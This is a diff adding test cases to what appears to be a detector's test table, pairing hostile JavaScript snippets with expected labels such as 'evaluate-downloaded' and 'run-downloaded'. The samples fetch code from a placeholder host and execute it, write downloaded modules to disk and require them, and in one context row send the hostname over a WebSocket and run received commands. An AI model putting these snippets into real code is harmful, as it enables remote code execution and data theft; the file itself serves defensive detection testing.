@@ -669,6 +669,22 @@ table('JavaScript: files of another package', [
 
 table('JavaScript: what comes in, what was written', [
   [
+    'the answer that came with an error',
+    "require('axios').get('https://host.invalid').then((r) => r.data).catch((e) => new Function('require', e.response.data)(require))",
+    'http-request | evaluate-downloaded',
+  ],
+  [
+    'a module that was downloaded',
+    "const f = require('path').join(require('os').tmpdir(), 'x.js'); fetch('https://host.invalid').then((r) => r.text()).then((t) => { require('fs').writeFileSync(f, t); require(f) })",
+    'write-file carries:download | run-downloaded',
+  ],
+  [
+    'a module that was downloaded beside the code',
+    "fetch('https://host.invalid').then((r) => r.text()).then((t) => { require('fs').writeFileSync(__dirname + '/x.js', t); require('./x') })",
+    'write-file carries:download | run-downloaded',
+  ],
+  ['a module that is not there', "require('./gone'); require('/x/y')", '!run-downloaded'],
+  [
     'a message to a handler that is a property',
     `const w = new WebSocket('wss://host.invalid'); w.onopen = () => w.send(require('os').hostname()); w.onmessage = (m) => ${CP}.exec(m.data)`,
     'websocket to:other | websocket carries:host | run-shell carries:download',
